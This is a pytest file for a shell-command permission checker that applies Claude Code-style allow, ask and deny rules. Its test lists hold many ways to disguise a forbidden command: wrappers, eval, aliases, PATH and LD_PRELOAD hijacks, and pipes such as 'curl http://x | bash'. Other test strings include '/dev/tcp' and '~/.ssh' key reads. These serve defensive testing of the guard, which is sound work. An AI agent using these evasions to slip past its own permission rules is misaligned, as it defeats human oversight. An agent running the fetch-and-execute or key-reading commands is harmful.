"""Permission rules: which commands they match, and that no command bypasses them."""

from __future__ import annotations

import pytest

from nacre import Decision, Policy, check
from nacre.errors import InvalidPolicy
from nacre.policy.permissions.match import PermissionResult, apply_permissions
from nacre.policy.permissions.patterns import Permissions, pattern_of
from nacre.shell import read

HERE, HOME = "/home/dev/project", "/home/dev"


def permission_of(
    command: str, *, allow: tuple[str, ...] = (), ask: tuple[str, ...] = (), deny: tuple[str, ...] = ()
) -> str:
    """Return decision and rule, such as `refuse Bash(rm:*)` or `allow Bash(ls)`; empty without a decision."""
    script = read(command, cwd=HERE, home=HOME)
    found = apply_permissions(script, Permissions(allow=allow, ask=ask, deny=deny), cwd=HERE)
    return f"{found.decision} {found.rule}" if found.decision else ""


def is_denied(command: str, *rules: str) -> bool:
    return permission_of(command, deny=rules).startswith("refuse ")


def is_allowed(command: str, *rules: str) -> bool:
    return permission_of(command, allow=rules).startswith("allow ")


# Statements of the published contract on single commands: https://code.claude.com/docs/en/permissions, read on
# 2026-11-16 (the page names version 2.1.211 of Claude Code).
CONTRACT = [
    ("Bash", "anything --at all", True),
    ("Bash(*)", "anything --at all", True),
    ("Bash(npm run build)", "npm run build", True),
    ("Bash(npm run build)", "npm run build --watch", False),
    ("Bash(npm run build)", "npm run", False),
    ("Bash(npm run test *)", "npm run test", True),
    ("Bash(npm run test *)", "npm run test --watch", True),
    ("Bash(npm run test:*)", "npm run test -- x y", True),
    ("Bash(npm run test:*)", "npm run testing", False),
    ("Bash(npm run test:unit)", "npm run test:unit", True),
    ("Bash(npm *)", "npm install lodash", True),
    ("Bash(* install)", "npm install", True),
    ("Bash(* install)", "npm install x", False),
    ("Bash(git * main)", "git checkout main", True),
    ("Bash(git * main)", "git log --oneline main", True),
    ("Bash(git * main)", "git push origin main", True),
    ("Bash(git * main)", "git main", False),
    ("Bash(ls *)", "ls -la", True),
    ("Bash(ls *)", "lsof", False),
    ("Bash(ls:*)", "ls -la", True),
    ("Bash(ls:*)", "lsof", False),
    ("Bash(ls*)", "ls -la", True),
    ("Bash(ls*)", "lsof", True),
    ("Bash(git:* push)", "git push", False),
    ("Bash(npm test *)", "timeout 30 npm test", True),
    ("Bash(npm test *)", "nice nohup npm test", True),
    ("Bash(safe-cmd *)", "safe-cmd x", True),
    ("Read(./.env)", "cat .env", False),
    ("mcp__puppeteer__*", "ls", False),
]


@pytest.mark.parametrize(("rule", "command", "expected"), CONTRACT)
def test_permission_rules_match_as_documented(rule: str, command: str, expected: bool) -> None:
    assert is_denied(command, rule) == expected
    assert is_allowed(command, rule) == expected


def test_deny_wins_over_ask_and_ask_over_allow() -> None:
    special, broad = ("Bash(aws s3 ls)",), ("Bash(aws *)",)
    assert permission_of("aws s3 ls", allow=special, deny=broad) == "refuse Bash(aws *)"
    assert permission_of("aws s3 ls", allow=special, ask=broad) == "ask Bash(aws *)"
    assert permission_of("aws s3 ls", ask=special, deny=broad) == "refuse Bash(aws *)"
    assert permission_of("aws s3 ls", allow=special) == "allow Bash(aws s3 ls)"
    assert permission_of("ls", deny=broad) == ""


@pytest.mark.parametrize("name", ["*", "B*", "Ba*h"])
def test_tool_name_glob_works_in_deny_but_not_in_allow(name: str) -> None:
    assert is_denied("ls", name)
    assert not is_allowed("make", name)


@pytest.mark.parametrize(
    "command",
    [
        "git push",
        "git push -f origin",
        "true && git push",
        "true; git push",
        "false || git push",
        "git push &",
        "echo x | git push",
        "if true; then git push; fi",
        "for r in a b; do git push $r; done",
        "echo $(git push)",
        "cat <(git push)",
        "f() { git push; }; f",
        "f() { git push; }",
        "shopt -s expand_aliases\nalias p='git push'\np",
        "/usr/bin/git push",
        "/opt/odd/git push",
        "'git' \"push\"",
        "g''it pu\\sh",
        "x=push; git $x",
        "sudo git push",
        "sudo -u me env A=1 nice git push",
        "env -i git push",
        "timeout -k 5 30 git push",
        "bash -c 'git push'",
        "bash -lc 'cd x && git push'",
        "eval git push",
        "bash <<< 'git push'",
        "bash <<'E'\ngit push\nE",
        "echo 'git push' | sh",
        "echo origin | xargs git push",
        "xargs -n1 git push < remotes",
        "find . -name x -exec git push {} \\;",
        "command git push",
        "A=1 git push",
        "git -C elsewhere push",
        "git -c user.name=x --no-pager push --force",
        "git push > /dev/null",
        "{ git push; } 2>&1",
        "/usr/bin/gi? push",
        "python3 -c \"import os; os.system('git push')\"",
        "git() { command git push; }; git",
        "git() { :; }; sudo git push",
        "git $OPTIONS push",
        "fd -e git -x git push",
        "fd . --exec-batch git push {}",
        "op run --env-file=x -- git push",
        "aws-vault exec me -- git push",
        "faketime '1 day ago' git push",
    ],
)
def test_denied_command_is_found_in_any_disguise(command: str) -> None:
    assert is_denied(command, "Bash(git push:*)")


@pytest.mark.parametrize(
    "command",
    ["echo git push", "echo 'git push'", "git commit -m 'git push'", "git log --grep push", "# git push", "git pushd"],
)
def test_denied_command_in_data_is_not_denied(command: str) -> None:
    assert not is_denied(command, "Bash(git push:*)")


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(git push)", "git -C elsewhere push"),
        ("Bash(git push*)", "git --no-pager push origin"),
        ("Bash(git push * --force)", "git -C elsewhere push origin --force"),
        ("Bash(npm publish:*)", "npm --prefix web publish"),
        ("Bash(kubectl delete:*)", "kubectl -n web delete pod x"),
        ("Bash(sudo rm:*)", "sudo -u me rm x"),
        ("Bash(rm -rf:*)", "rm -fr x"),
        ("Bash(rm -rf:*)", "rm -r x -f"),
        ("Bash(git push --force:*)", "git push origin --force"),
        ("Bash(/opt/x/tool:*)", "tool y"),
        ("Bash(./deploy.sh:*)", "/srv/project/deploy.sh now"),
        ("Bash(./deploy.sh:*)", "bash deploy.sh now"),
        ("Bash(./deploy.sh now)", ". ./deploy.sh now"),
    ],
)
def test_denied_command_is_found_through_options_and_paths(rule: str, command: str) -> None:
    assert is_denied(command, rule)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(rm -rf:*)", "rm -r x"),
        ("Bash(git checkout --:*)", "git checkout -b x"),
        ("Bash(git push --force:*)", "git push --force-with-lease"),
        ("Bash(git push --force:*)", "git pull --force"),
        ("Bash(npm publish:*)", "npm run publish"),
        ("Bash(git push:*)", "git --no-pager log push"),
        ("Bash(./deploy.sh:*)", "bash -c 'ls' deploy.sh"),
    ],
)
def test_different_options_are_not_denied(rule: str, command: str) -> None:
    assert not is_denied(command, rule)


@pytest.mark.parametrize("command", ["cat ~/.ssh/key", "cat $HOME/.ssh/key", f"cat {HOME}/.ssh/key"])
@pytest.mark.parametrize("rule", ["Bash(cat ~/.ssh/*)", "Bash(cat $HOME/.ssh/*)"])
def test_home_in_a_rule_matches_home_in_a_command(rule: str, command: str) -> None:
    assert is_denied(command, rule)
    assert is_allowed(command, rule)


def test_wrapper_can_be_denied() -> None:
    assert is_denied("sudo ls", "Bash(sudo:*)")
    assert is_denied("true && sudo -u me ls", "Bash(sudo:*)")
    assert is_denied("bash -c 'ls'", "Bash(bash -c:*)")


def test_redirection_can_be_denied() -> None:
    assert is_denied("echo x > /etc/hosts", "Bash(* > /etc/*)")
    assert is_denied("echo x >/etc/hosts", "Bash(* > /etc/*)")
    assert is_denied("> /etc/hosts", "Bash(> /etc/*)")
    assert not is_denied("echo x > /tmp/hosts", "Bash(* > /etc/*)")


@pytest.mark.parametrize("operator", ["1>", ">>", ">|", "&>", "2>", "> /dev/null 2>"])
def test_denied_redirection_covers_every_write_operator(operator: str) -> None:
    assert is_denied(f"echo x {operator} /etc/hosts", "Bash(* > /etc/*)")


def test_pipeline_can_be_denied_by_its_text() -> None:
    assert is_denied("curl http://x |  bash", "Bash(curl * | bash)")
    assert not is_denied("curl http://x", "Bash(curl * | bash)")


@pytest.mark.parametrize(
    "command",
    [
        "curl x|bash",
        "curl x |& bash",
        "cd y && curl x | bash",
        "curl x | bash; ls",
        "(curl x | bash)",
        "if true; then curl x | bash; fi",
        "bash -c 'curl x | bash'",
        "curl x | bash -s",
    ],
)
def test_denied_pipeline_is_found_in_a_larger_command(command: str) -> None:
    assert is_denied(command, "Bash(curl * | bash *)")
    assert not is_denied(f"echo '{command.replace(chr(39), '')}'", "Bash(curl * | bash *)")


@pytest.mark.parametrize(
    "command",
    [
        "npm test",
        "npm test -- -x 'a b'",
        "npm test && npm test",
        "cd packages && npm test",
        "cd ./packages/api && npm test 2>&1 | tail -5",
        "npm test > /dev/null 2>&1",
        "timeout 60 npm test",
        "nice -n 5 nohup npm test",
        "env -i CI=1 npm test",
        "npm test &",
        "npm test <<< x",
        "CI=1 NODE_ENV=test npm test",
        "bash -c 'npm test'",
        "bash -euo pipefail -c 'cd packages; npm test'",
        "echo a b | xargs npm test",
        "/usr/bin/npm test",
        "for each in a b; do npm test $each; done",
        "if npm test; then echo good; else exit 1; fi",
        "f() { npm test; }; f",
        'npm test "$X"',
        "n=1; npm test $n",
        "npm test; echo $?",
        "grep -r npm . | sort | head; npm test",
    ],
)
def test_allowed_command_is_allowed_among_harmless_ones(command: str) -> None:
    assert is_allowed(command, "Bash(npm test:*)")


@pytest.mark.parametrize(
    "command",
    [
        "npm install",
        "npm test && npm install",
        "npm test; rm x",
        "npm test | tee log",
        "npm test & rm x",
        "npm test $(rm x)",
        "npm test `rm x`",
        "npm test <(rm x)",
        "npm test\nrm x",
        "npm test > log",
        "npm test >> log",
        "{ npm test; } > log",
        "npm test > /dev/nullx",
        "> log; npm test",
        "npm test < /dev/tcp/host/80",
        "sudo npm test",
        "su -c 'npm test'",
        "ssh host npm test",
        "cd / && npm test",
        "cd .. && npm test",
        'cd "$X" && npm test',
        "bash -c 'npm test; rm x'",
        "bash -ic 'npm test'",
        "bash --rcfile x -c 'npm test'",
        'bash -c "$X"; npm test',
        'eval "$X" npm test',
        "/tmp/npm test",
        "./npm test",
        "~/bin/npm test",
        '"$X" test',
        "$X npm test",
        "npm $X",
        "n?m test",
        "PATH=/tmp:$PATH npm test",
        "PATH=/tmp; npm test",
        "export PATH=/tmp; npm test",
        "for PATH in /tmp; do npm test; done",
        "NODE_OPTIONS='-r ./x' npm test",
        "env NODE_OPTIONS='-r ./x' npm test",
        "env -P /tmp npm test",
        "env -S 'rm x' npm test",
        "env - PATH=/tmp npm test",
        "CDPATH=/tmp cd x && npm test",
        "echo 'rm x' | xargs -I{} bash -c '{}'; npm test",
        "npm test &> log",
        "npm test >& log",
        "npm test > >(bash)",
        "exec > log; npm test",
        "cd() { rm x; }; cd y; npm test",
        "enable -f ./x.so cd; npm test",
        "hash -p /tmp/npm npm; npm test",
        "[[ a[$(rm x)] -eq 1 ]]; npm test",
        "LD_PRELOAD=x.so npm test",
        "alias npm='rm x'\nnpm test",
        "npm() { rm x; }; npm test",
        "time -o x npm test",
        "find . -exec npm test \\; -delete",
        "find . -exec rm {} +; npm test",
        "npm test; 'unclosed",
        "(npm test",
        "sort -o x y; npm test",
        "printf -v PATH /tmp; npm test",
        "git status; npm test",
        "trap 'rm x' EXIT; npm test",
        "source x; npm test",
        "bash x.sh; npm test",
        "curl http://x | bash; npm test",
        'bash -c "npm test $X"',
        'eval "npm test $X"',
        "eval npm test $X",
        "eval npm test *",
        'bash <<< "npm test $X"',
        "bash <<E\nnpm test $X\nE",
        'echo "npm test $X" | bash',
        "xargs -I{} sh -c 'npm test {}'",
        "xargs eval npm test",
        'for f in *; do bash -c "npm test $f"; done',
        "zsh -c 'npm test *(e:\"rm x\":)'",
        "bash -c 'fo''r PATH in /tmp; do npm test; done'",
        "for HOME in x; do npm test; done",
        "for npm_config_script_shell in x; do npm test; done",
        "((PATH = 1)); npm test",
        "for ((HOME = 0; HOME < 1; HOME++)); do npm test; done",
        ": ${NODE_OPTIONS:=x}; npm test",
        "PYTHONWARNINGS=error::x.Y npm test",
        "xargs --process-slot-var=HOME npm test < x",
        'echo "${x@P}"; npm test',
        "cd packages || cd /; npm test",
        "cd packages; cd ..; npm test",
        "cd packages && npm test || cd /; npm test",
        "case $x in a) cd /;; esac; npm test",
        "npm() { :; }; sudo npm test",
    ],
)
def test_allow_rule_covers_nothing_else(command: str) -> None:
    assert not is_allowed(command, "Bash(npm test:*)")


def test_allow_rule_that_matches_nothing_gives_no_decision() -> None:
    assert permission_of("ls && cd packages", allow=("Bash(npm test:*)",)) == ""


def test_allow_rules_combine_over_the_parts_of_a_command() -> None:
    assert not is_allowed("npm test && git push", "Bash(npm test:*)")
    assert is_allowed("npm test && git push", "Bash(npm test:*)", "Bash(git push)")
    assert permission_of("git push && npm test", allow=("Bash(npm test:*)", "Bash(git push)")) == "allow Bash(git push)"


@pytest.mark.parametrize(
    ("rules", "expected"),
    [
        (["Bash(apt update:*)"], False),
        (["Bash(sudo:*)"], False),
        (["Bash(sudo:*)", "Bash(apt update:*)"], True),
        (["Bash(sudo apt update)"], True),
        (["Bash(sudo apt update:*)"], True),
        (["Bash(sudo apt:*)"], True),
        (["Bash(sudo*)"], False),
        (["Bash"], True),
    ],
)
def test_wrapper_rule_covers_the_wrapped_command_it_names(rules: list[str], expected: bool) -> None:
    assert is_allowed("sudo apt update", *rules) == expected


def test_nested_wrappers_must_be_named_up_to_the_command() -> None:
    command = "sudo timeout 5 apt update"
    assert not is_allowed(command, "Bash(sudo timeout:*)")
    assert is_allowed(command, "Bash(sudo timeout 5 apt:*)")
    assert is_allowed(command, "Bash(sudo timeout:*)", "Bash(apt update)")


def test_exact_rule_covers_only_the_text_it_names() -> None:
    assert is_allowed("bash -c 'rm x > y'", "Bash(bash -c 'rm x > y')")
    assert is_allowed("bash -c 'rm x > y'", 'Bash(bash -c "rm x > y")')
    assert not is_allowed("bash -c 'rm z'", "Bash(bash -c:*)")
    assert not is_allowed("echo 'rm x' | bash", "Bash(bash)")
    assert is_allowed("a | b > c", "Bash(a | b > c)")
    assert not is_allowed("a | b\nc", "Bash(a | b c)")
    assert not is_allowed("a | b", "Bash(a * b)", "Bash(a | *)")


def test_rule_that_names_a_redirection_allows_it() -> None:
    assert is_allowed("make > build.log", "Bash(make > *)")
    assert is_allowed("make > build.log", "Bash(make >build.log)")
    assert not is_allowed("make > other.log", "Bash(make > build.log)")
    assert not is_allowed("make >> build.log", "Bash(make > build.log)")
    assert not is_allowed("make > build.log", "Bash(make *)")
    assert is_allowed("make > build.log", "Bash(*)")
    assert not is_allowed("make > build.log 2> errors", "Bash(make > *)")
    assert is_allowed("make > build.log 2> errors", "Bash(make > * 2> *)")


def test_rule_that_names_a_variable_assignment_allows_it() -> None:
    assert is_allowed("NODE_OPTIONS=-x npm test", "Bash(NODE_OPTIONS=-x npm test:*)")
    assert is_allowed("NODE_OPTIONS=-x npm test", "Bash(NODE_OPTIONS=* npm test:*)")
    assert not is_allowed("NODE_OPTIONS=-y npm test", "Bash(NODE_OPTIONS=-x npm test:*)")
    assert not is_allowed("LD_PRELOAD=x npm test", "Bash(* npm test:*)")
    assert not is_allowed("NODE_OPTIONS=x rm npm test", "Bash(NODE_OPTIONS=* npm test:*)")
    assert is_allowed("CI=1 make", "Bash(CI=* make)")


def test_allow_rules_compare_whole_arguments() -> None:
    assert is_allowed("git commit -m 'a b'", "Bash(git commit -m 'a b')")
    assert not is_allowed("rm 'a b'", "Bash(rm a b)")
    assert is_denied("rm 'a b'", "Bash(rm a b)")
    assert is_denied("rm 'a b'", "Bash(rm *)")


def test_program_can_be_allowed_by_its_path() -> None:
    assert is_allowed("./run.sh x", "Bash(./run.sh:*)")
    assert not is_allowed("/tmp/run.sh x", "Bash(./run.sh:*)")
    assert is_allowed("git push", "Bash(/usr/bin/git push)")


@pytest.mark.parametrize("rule", ["Bash(ls", "Bash()", "Bash( )", "Bash(:*)x"])
def test_malformed_permission_rule_is_an_error(rule: str) -> None:
    with pytest.raises(InvalidPolicy):
        Permissions(allow=(rule,))


@pytest.mark.parametrize("rule", ["bash(rm:*)", "BASH(rm:*)", "rm", "rm:*", "git push:*", "Shell(rm)", "~/bin/x"])
def test_deny_rule_that_names_no_tool_is_an_error(rule: str) -> None:
    with pytest.raises(InvalidPolicy, match="names no tool"):
        Permissions(deny=(rule,))


def test_string_instead_of_a_rule_list_is_an_error() -> None:
    with pytest.raises(InvalidPolicy, match="is one string"):
        Permissions(deny="Bash(ls)")  # type: ignore[arg-type]


def test_pattern_with_many_stars_matches_without_hanging() -> None:
    stars = f"Bash({'a*' * 200}b)"
    assert not is_denied("a" * 20_000, stars)
    assert pattern_of(stars) is not None


# with the checker

ASKS, REFUSES, FLOOR = "git stash drop", "git push -f", "rm -rf /"


def verdict(command: str, policy: Policy | None = None, **rules: tuple[str, ...]) -> tuple[str, str, str]:
    base = policy or Policy()
    changed = Policy(decisions=base.decisions, default_decision=base.default_decision, permissions=Permissions(**rules))
    found = check(command, cwd=HERE, env={"HOME": HOME}, policy=changed)
    return found.decision.value, found.rule, found.permitted


def test_allow_rule_answers_a_question_of_the_checker() -> None:
    assert verdict(ASKS) == ("ask", "git-stash-drop", "")
    assert verdict(ASKS, allow=("Bash(git stash:*)",)) == ("allow", "", "Bash(git stash:*)")
    assert verdict(f"{ASKS}; make", allow=("Bash(git stash:*)",)) == ("ask", "git-stash-drop", "")


@pytest.mark.parametrize("command", [REFUSES, FLOOR])
def test_allow_rule_does_not_lift_a_refusal(command: str) -> None:
    assert verdict(command, allow=("Bash",))[0] == "refuse"


def test_allow_rule_answers_a_refusal_that_a_policy_turned_into_a_question() -> None:
    asks = Policy(decisions={"git-push-force": Decision.ASK})
    assert verdict(REFUSES, asks, allow=("Bash(git push:*)",)) == ("allow", "", "Bash(git push:*)")
    assert verdict(FLOOR, asks, allow=("Bash",))[0] == "refuse"


def test_allow_rule_extends_the_plain_commands() -> None:
    strict = Policy(default_decision=Decision.ASK)
    assert verdict("make", strict) == ("ask", "not-plain", "")
    assert verdict("cd src && make | tail", strict, allow=("Bash(make)",)) == ("allow", "", "Bash(make)")
    assert verdict("ls", strict, ask=("Bash(ls:*)",)) == ("ask", "permission-ask", "")


def test_denied_verdict_names_the_rule_and_the_wrapper() -> None:
    found = check(
        "cd x && sudo npm publish", cwd=HERE, policy=Policy(permissions=Permissions(deny=("Bash(npm publish:*)",)))
    )
    assert (found.decision, found.rule, found.findings[0].via) == (Decision.REFUSE, "permission-deny", ("sudo",))
    assert found.reason == (
        "`npm publish` is denied by the permission rule `Bash(npm publish:*)`. Instead: do without it, or ask the user"
    )


def test_empty_permissions_give_no_decision() -> None:
    assert apply_permissions(read("ls", cwd=HERE, home=HOME), Permissions()) == PermissionResult()
    assert not Permissions()
